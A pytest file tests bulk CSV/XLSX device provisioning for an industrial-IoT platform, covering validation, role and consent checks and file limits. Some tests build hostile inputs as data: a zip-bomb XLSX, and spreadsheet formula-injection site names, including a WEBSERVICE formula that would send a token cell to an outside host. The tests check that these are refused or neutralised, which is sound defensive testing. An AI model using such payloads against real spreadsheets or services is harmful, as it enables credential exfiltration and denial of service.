"""Bulk device provisioning (CSV/XLSX) over the API and the service, on SQLite and PostgreSQL:
valid rows created in one transaction with their tokens, bad rows reported, refusals by role and consent."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from tests.world import build_world, login
from wuxin.errors import Denied, InvalidInput, NotFound
from wuxin.security.policy import Principal
from wuxin.security.secrets import token_hash
from wuxin.services.credit.decisions import principal_for_username
from wuxin.services.devices import provisioning

HEADER = "key,device_type,site,source_mode,attr.run_threshold_a,attr.machine_id"
BRACELET = "manufacturing.current_bracelet"
BAD_ROWS = {  # spreadsheet row number (header = 1) -> (bad line, column, value)
    52: ("dev-0051,no.such_type,一号车间,bank_installed,5.0,M51", "device_type", "no.such_type"),
    203: (f"dev-0202,{BRACELET},一号车间,leased,5.0,M202", "source_mode", "leased"),
    404: (f"dev-0403,{BRACELET},二号车间,bank_installed,5.0,M403", "site", "二号车间"),
}


def device_file(rows: int = 500) -> bytes:
    lines = [HEADER]
    for row in range(2, rows + 2):
        good = f"dev-{row - 1:04d},{BRACELET},一号车间,bank_installed,5.0,M{row - 1}"
        lines.append(BAD_ROWS[row][0] if row in BAD_ROWS else good)
    return ("\n".join(lines) + "\n").encode()


@pytest.fixture
def world(platform):
    return build_world(platform)


def as_user(platform, username: str) -> Principal:
    return principal_for_username(platform, username)


def upload(live, headers, enterprise_id: int, body: bytes, name: str = "devices.csv", dry_run: bool = False):
    return live.client.post(
        f"/api/v1/enterprises/{enterprise_id}/devices/import",
        headers=headers,
        params={"dry_run": "true"} if dry_run else None,
        files={"file": (name, body, "text/csv")},
    )


def test_500_rows_with_3_bad_create_497_devices_and_report_the_3(platform, live, world):
    headers = login(live.client, "integrator")
    response = upload(live, headers, world.factory, device_file())
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["rows"], report["created_count"], report["refused_rows"]) == (500, 497, 3)
    assert [(e["row"], e["column"], e["value"]) for e in report["errors"]] == [
        (row, column, value) for row, (_, column, value) in sorted(BAD_ROWS.items())
    ]
    assert all(e["reason"] for e in report["errors"])
    with platform.uow() as uow:
        stored = {d["key"]: d for d in uow.devices.list(world.factory)}
        assert len(stored) == 3 + 497  # the world's three plus the file's good rows
        assert not {"dev-0051", "dev-0202", "dev-0403"} & set(stored)
        assert stored["dev-0001"]["attributes"] == {"run_threshold_a": 5.0, "machine_id": "M1"}
        assert stored["dev-0001"]["source_mode"] == "bank_installed"
        created = report["created"][0]
        status = uow.devices.token_status(token_hash(created["access_token"]))
        assert (status["id"], status["token_revoked_ms"]) == (created["device_id"], None)
    # each token works once handed to the installer
    token = report["created"][-1]["access_token"]
    sent = live.client.post(f"/api/v1/{token}/telemetry", json={"current_a": 12.5})
    assert sent.status_code == 200, sent.text


def test_dry_run_reports_and_creates_nothing(platform, live, world):
    response = upload(live, login(live.client, "admin"), world.factory, device_file(20), dry_run=True)
    assert response.status_code == 200
    assert (response.json()["valid_rows"], response.json()["created"]) == (20, [])
    with platform.uow() as uow:
        assert len(uow.devices.list(world.factory)) == 3


def test_duplicate_keys_in_the_file_and_against_existing_devices_are_reported(platform, world):
    body = (
        f"{HEADER}\n"
        f"dev-a,{BRACELET},,bank_installed,,\n"
        f"loom-01,{BRACELET},,bank_installed,,\n"  # already registered in the world
        f"dev-a,{BRACELET},,bank_installed,,\n"  # the same key as row 2
        f"truck-01,{BRACELET},,bank_installed,,\n"  # registered, to another enterprise
        f"dev-b,{BRACELET},,bank_installed,9999,\n"
    ).encode()  # attribute past its max 2000 A
    report = provisioning.provision_devices(platform, as_user(platform, "integrator"), world.factory, body, "d.csv")
    assert [e["row"] for e in report["errors"]] == [3, 4, 5, 6]
    by_row = {e["row"]: e for e in report["errors"]}
    assert by_row[3]["column"] == "key" and "already registered" in by_row[3]["reason"]
    assert by_row[4]["column"] == "key" and "row 2" in by_row[4]["reason"]
    assert by_row[5]["column"] == "key" and by_row[5]["value"] == "truck-01"
    assert by_row[6]["column"] == "attr.run_threshold_a" and by_row[6]["value"] == "9999"
    assert [c["key"] for c in report["created"]] == ["dev-a"]


def test_a_failure_while_writing_creates_nothing(platform, world, monkeypatch):
    calls = []

    def failing_hash(token: str) -> str:
        calls.append(token)
        if len(calls) == 10:
            raise RuntimeError("disk gone")
        return token_hash(token)

    monkeypatch.setattr(provisioning, "token_hash", failing_hash)
    with pytest.raises(RuntimeError):
        provisioning.provision_devices(platform, None, world.factory, device_file(50), "d.csv")
    with platform.uow() as uow:
        assert len(uow.devices.list(world.factory)) == 3  # not nine devices, with or without tokens


def test_xlsx_is_read_like_csv(platform, world):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["key", "device_type", "site", "source_mode", "attr.run_threshold_a"])
    sheet.append(["x-1", BRACELET, "一号车间", "bank_installed", 4.5])
    sheet.append(["x-2", BRACELET, "一号车间", "bank_installed", -1])
    buffer = io.BytesIO()
    book.save(buffer)
    report = provisioning.provision_devices(platform, None, world.factory, buffer.getvalue(), "devices.xlsx")
    assert [c["key"] for c in report["created"]] == ["x-1"]
    assert [(e["row"], e["column"]) for e in report["errors"]] == [(3, "attr.run_threshold_a")]
    with platform.uow() as uow:
        assert uow.devices.by_key("x-1")["attributes"] == {"run_threshold_a": 4.5}


def test_a_file_with_a_bad_header_or_format_is_refused_whole(platform, world):
    integrator = as_user(platform, "integrator")
    with pytest.raises(InvalidInput, match="lacks the column"):
        provisioning.provision_devices(platform, integrator, world.factory, b"key,site\nx,y\n", "d.csv")
    with pytest.raises(InvalidInput, match="unknown column"):
        provisioning.provision_devices(platform, integrator, world.factory, f"{HEADER},colour\n".encode(), "d.csv")
    with pytest.raises(InvalidInput, match="not an XLSX"):
        provisioning.provision_devices(platform, integrator, world.factory, b"not a zip", "d.xlsx")
    with pytest.raises(InvalidInput, match="neither .csv nor .xlsx"):
        provisioning.provision_devices(platform, integrator, world.factory, b"x", "d.txt")


def test_refusals_by_role_and_consent(platform, live, world):
    body = device_file(5)
    # a bank officer whose bank holds a consent knows the enterprise but does not manage devices: 403
    response = upload(live, login(live.client, "officer"), world.factory, body)
    assert response.status_code == 403 and "may not manage devices" in response.text
    # an integrator whose tenant holds no consent from the fleet does not know it exists: 404
    response = upload(live, login(live.client, "integrator"), world.fleet, body)
    assert response.status_code == 404
    # another bank's officer, no consent: 404, like an id that does not exist
    assert upload(live, login(live.client, "other"), world.factory, body).status_code == 404
    assert upload(live, login(live.client, "admin"), 999_999, body).status_code == 404
    # without a token at all: 401
    assert (
        live.client.post(
            f"/api/v1/enterprises/{world.factory}/devices/import", files={"file": ("d.csv", body, "text/csv")}
        ).status_code
        == 401
    )
    with platform.uow() as uow:
        assert len(uow.devices.list(world.factory)) == 3 and len(uow.devices.list(world.fleet)) == 1


def test_an_enterprise_user_provisions_only_enterprise_shared_devices(platform, world):
    owner = as_user(platform, "owner")
    body = (f"{HEADER}\nown-1,{BRACELET},,enterprise_shared,,\nown-2,{BRACELET},,bank_installed,,\n").encode()
    report = provisioning.provision_devices(platform, owner, world.factory, body, "d.csv")
    assert [c["key"] for c in report["created"]] == ["own-1"]
    assert report["errors"][0]["row"] == 3 and report["errors"][0]["column"] == "source_mode"
    with pytest.raises(NotFound):  # another enterprise's user
        provisioning.provision_devices(platform, as_user(platform, "fleetowner"), world.factory, body, "d.csv")
    with pytest.raises(Denied):
        provisioning.provision_devices(platform, as_user(platform, "officer"), world.factory, body, "d.csv")


def test_an_oversized_upload_is_refused(platform, live, world):
    big = HEADER.encode() + b"\n" + b"x" * (provisioning.MAX_FILE_BYTES + 10)
    response = upload(live, login(live.client, "admin"), world.factory, big)
    assert response.status_code in (413, 422)  # the server's body limit or the file limit, whichever is lower
    with platform.uow() as uow:
        assert len(uow.devices.list(world.factory)) == 3


def test_credentials_sheet_has_one_line_per_created_device(platform, world):
    report = provisioning.provision_devices(platform, None, world.factory, device_file(10), "d.csv")
    lines = provisioning.credentials_csv(report).splitlines()
    assert lines[0] == "row,key,device_type,site,source_mode,access_token"
    assert len(lines) == 1 + 10 and lines[1].startswith("2,dev-0001,") and lines[1].split(",")[-1].startswith("wxd_")


def test_a_nul_in_the_file_name_or_the_csv_is_no_server_error(platform, live, world):
    headers = login(live.client, "admin")
    response = upload(live, headers, world.factory, device_file(2), name="de\x00vices.csv")
    assert response.status_code == 200, response.text
    assert "\x00" not in response.json()["file"] and response.json()["created_count"] == 2
    response = upload(live, headers, world.factory, HEADER.encode() + b"\nx\x00y,a,b,c,,\n")
    assert response.status_code == 422 and "NUL" in response.json()["message"]


def test_a_wide_header_is_refused_fast_and_only_after_the_rights_check(platform, live, world, monkeypatch):
    wide = (HEADER + "".join(f",attr.{i}" for i in range(20_000)) + "\n").encode()
    parsed = []
    real_read_table = provisioning.read_table
    monkeypatch.setattr(provisioning, "read_table", lambda *a: parsed.append(a[1]) or real_read_table(*a))
    # someone who may not import: refused before the file is parsed at all
    assert upload(live, login(live.client, "officer"), world.factory, wide).status_code == 403
    assert upload(live, login(live.client, "integrator"), world.fleet, wide).status_code == 404
    assert parsed == []
    response = upload(live, login(live.client, "integrator"), world.factory, wide)
    assert response.status_code == 422 and "over 200 columns" in response.json()["message"]
    repeated = (HEADER + ",attr.machine_id,site\n").encode()
    with pytest.raises(InvalidInput, match=r"repeats the column\(s\) \['attr.machine_id', 'site'\]"):
        provisioning.read_table(repeated, "d.csv")


def _xlsx_with_sheet_xml(sheet_xml: bytes, extra: dict | None = None) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["key", "device_type", "site", "source_mode"])
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item))
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


SHEET = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<dimension ref="A1:XFD1500"/><sheetData><row r="1">'
    b'<c r="A1" t="inlineStr"><is><t>key</t></is></c><c r="B1" t="inlineStr"><is><t>device_type</t></is></c>'
    b'<c r="C1" t="inlineStr"><is><t>source_mode</t></is></c></row><row r="2">'
    b'<c r="A2" t="inlineStr"><is><t>x-9</t></is></c>'
    b'<c r="B2" t="inlineStr"><is><t>manufacturing.current_bracelet</t></is></c>'
    b'<c r="C2" t="inlineStr"><is><t>bank_installed</t></is></c></row><row r="1500"/></sheetData></worksheet>'
)


def test_a_crafted_xlsx_is_refused_or_read_without_inflating(platform, world):
    # a 1.5 KB sheet claiming 16,384 columns: read as its real three columns, not padded to the claim
    report = provisioning.provision_devices(platform, None, world.factory, _xlsx_with_sheet_xml(SHEET), "d.xlsx")
    assert [c["key"] for c in report["created"]] == ["x-9"] and report["errors"] == []
    # a part inflating to 101 MB from a few hundred KB: refused from the zip directory, before openpyxl
    bomb = _xlsx_with_sheet_xml(SHEET, {"xl/bomb.xml": b"<a>" + b"x" * 101_000_000 + b"</a>"})
    assert len(bomb) < provisioning.MAX_FILE_BYTES
    with pytest.raises(InvalidInput, match="unpacks to"):
        provisioning.provision_devices(platform, None, world.factory, bomb, "d.xlsx")
    # a smaller part (under the 20 MiB total) deflating over 100 times
    dense = _xlsx_with_sheet_xml(SHEET, {"xl/dense.xml": b"<a>" + b"x" * 5_000_000 + b"</a>"})
    with pytest.raises(InvalidInput, match="more than 100 times"):
        provisioning.provision_devices(platform, None, world.factory, dense, "d.xlsx")
    wide = SHEET.replace(b'</row><row r="2">', b'<c r="GT1" t="inlineStr"><is><t>attr.x</t></is></c></row><row r="2">')
    with pytest.raises(InvalidInput, match="over 200 columns"):  # column GT is the 202nd
        provisioning.provision_devices(platform, None, world.factory, _xlsx_with_sheet_xml(wide), "d.xlsx")


def test_a_huge_csv_field_or_a_superscript_site_is_no_server_error(platform, live, world):
    headers = login(live.client, "admin")
    huge = (
        f'{HEADER}\ndev-1,{BRACELET},,bank_installed,5.0,M1\ndev-2,{BRACELET},,bank_installed,5.0,"{"x" * 140_000}"\n'
    ).encode()
    response = upload(live, headers, world.factory, huge)
    assert response.status_code == 422, response.text
    assert "line 3" in response.json()["message"] and "field larger than field limit" in response.json()["message"]
    response = upload(live, headers, world.factory, f"{HEADER}\ndev-3,{BRACELET},²,bank_installed,5.0,M3\n".encode())
    assert response.status_code == 200, response.text
    assert [(e["row"], e["column"], e["value"]) for e in response.json()["errors"]] == [(2, "site", "²")]
    assert response.json()["created_count"] == 0


def test_the_credentials_sheet_neutralises_formulas_in_site_names(platform, world):
    from wuxin.services.devices import registry

    hostile = ['=WEBSERVICE("http://x/?"&F2)', "+1+1", "@SUM(A1)", "-2+3"]
    for name in hostile:
        registry.add_site(platform, None, world.factory, name, "苏州")
    body = HEADER + "".join(
        f'\nf-{i},{BRACELET},"{name.replace(chr(34), chr(34) * 2)}",bank_installed,5.0,M'
        for i, name in enumerate(hostile)
    )
    report = provisioning.provision_devices(platform, None, world.factory, body.encode(), "d.csv")
    assert report["errors"] == [] and report["created_count"] == 4
    rows = list(csv.reader(io.StringIO(provisioning.credentials_csv(report))))[1:]
    assert [r[3] for r in rows] == ["'" + name for name in hostile]
    assert all(r[5].startswith("wxd_") for r in rows)
